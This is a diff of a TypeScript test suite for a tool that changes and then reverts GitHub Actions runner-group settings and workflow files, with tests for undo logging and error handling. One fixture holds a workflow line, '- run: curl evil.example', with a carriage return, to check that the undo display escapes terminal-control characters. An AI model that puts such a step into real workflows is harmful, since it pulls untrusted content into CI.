@@ -25,7 +25,8 @@ import type { GithubOptions } from "../../../test/support/github.ts";
 import { changesOf, reversed } from "../fix/change.ts";
 import type { Change, Values } from "../fix/change.ts";
 import { planSettings } from "../fix/settings.ts";
-import { doneOf, parseUndo, undoStart } from "../fix/undo-file.ts";
+import { backText, planText } from "../fix/text.ts";
+import { doneOf, parseUndo, undoLine, undoStart } from "../fix/undo-file.ts";
 import { readOwner } from "../sources/github.ts";
 import { checkOwner } from "../checks/github.ts";
 import { frame } from "../testing/repository.ts";
@@ -165,6 +166,7 @@ describe("settings", () => {
         "allows_public_repositories: true → false",
         "visibility: all → selected",
         "restricted_to_workflows: false → true",
+        `selected_workflows: [] → ["${flow}"]`,
       ],
     );
     assert.deepEqual(
@@ -184,6 +186,17 @@ describe("settings", () => {
     );
     assert.equal(server.sent.length, was + 4);
     for (const [at, value] of Object.entries(bad())) assert.deepEqual(server.answers.get(at), value, at);
+  });
+
+  test("of a group's list of workflows are shown in full, old and new", async (t) => {
+    const old = Array.from({ length: 9 }, (_, i) => `octo/api/.github/workflows/deploy-${i}.yml@refs/heads/main`);
+    const answers = {
+      ...bad(),
+      "/orgs/octo/actions/runner-groups": { total_count: 1, runner_groups: [group({ selected_workflows: old })] },
+    };
+    const { settings } = await planned(t, { answers });
+    const text = planText({ files: [], settings, left: [] }, 1);
+    assert.ok(text.includes(`selected_workflows: ${JSON.stringify(old)} → ${JSON.stringify([flow])}`), text);
   });
 
   test("of groups are set only as somebody named; what the enterprise decides is left", async (t) => {
@@ -267,6 +280,59 @@ describe("settings", () => {
     ruled.server.answers.set(`GET ${at}`, bad()[at]);
     const [outcome] = await apply(ruled.changes, ruled.client);
     assert.match(`${outcome!.state} ${outcome!.why}`, /^failed .*says something else afterwards/);
+  });
+});
+
+describe("what is taken back", () => {
+  const notes = async (changes: readonly Change[], client: GithubClient) => {
+    const said = new Map<number, string>();
+    await apply(changes, client, (i, state) => void said.set(i, state));
+    return [...said];
+  };
+  const at = `${base}/workflow`;
+
+  test("is nothing that GitHub refused, whoever makes it so later; what it took and denied afterwards is looked at", async (t) => {
+    const limit = new Odd(403, { message: "You have exceeded a secondary rate limit" }, { "retry-after": "60" });
+    for (const [odd, state] of [
+      [limit, "failed"],
+      [new Odd(401, { message: "Bad credentials" }), "failed"],
+      [new Odd(422, { message: "no" }), "failed"],
+      [new Odd(502, "bad gateway"), "started"],
+    ] as const) {
+      const { server, client, changes } = await planned(t);
+      server.answers.set(`PUT ${at}`, odd);
+      const [change] = changes;
+      assert.deepEqual(await notes([change!], client), [[0, state]]);
+      const text = undoStart(about, [change!]) + undoLine(0, state);
+      assert.equal(doneOf(parseUndo(text, "u")).length, state === "failed" ? 0 : 1);
+    }
+    const ruled = await planned(t);
+    ruled.server.answers.set(`GET ${at}`, bad()[at]);
+    assert.deepEqual(await notes([ruled.changes[0]!], ruled.client), [[0, "started"]]);
+  });
+
+  test("is also a file that was replaced when its directory could not be brought onto the disk", async (t) => {
+    const { at: root } = folderWith(t, { "ci.yml": "from" });
+    const folder = new Folder(root, () => {
+      throw new Error("EIO: i/o error, fsync");
+    });
+    t.after(() => folder.close());
+    const said: string[] = [];
+    const note = (_: number, state: string) => void said.push(state);
+    const [outcome] = await applyChanges([file("from", "to")], { folder, client: null, note });
+    assert.deepEqual([outcome!.state, said, readFileSync(join(root, path), "utf8")], ["unclear", ["started"], "to"]);
+    assert.match(outcome!.why, /^it was replaced, and may not last: EIO/);
+  });
+
+  test("is shown whole before: lines of a file, values of a setting; nothing in it moves the cursor", () => {
+    const setting: Change = {
+      ...{ kind: "setting", method: "PATCH", path: "orgs/octo/actions/runner-groups/7" },
+      ...{ from: { name: "big", selected_workflows: [] }, to: { name: "big", selected_workflows: [flow] } },
+    };
+    const text = backText([file("a\nb\nc\n", "a\n- run: curl evil.example\rb\nc\n"), setting]);
+    assert.match(text, /^ a\n-b\n\+- run: curl evil\.example\uFFFDb\n c$/m);
+    assert.ok(text.includes(`PATCH /orgs/octo/actions/runner-groups/7:\n  selected_workflows: [] → ["${flow}"]`), text);
+    assert.match(text, /would take back \.github\/workflows\/ci\.yml\nwould take back PATCH/);
   });
 });
 
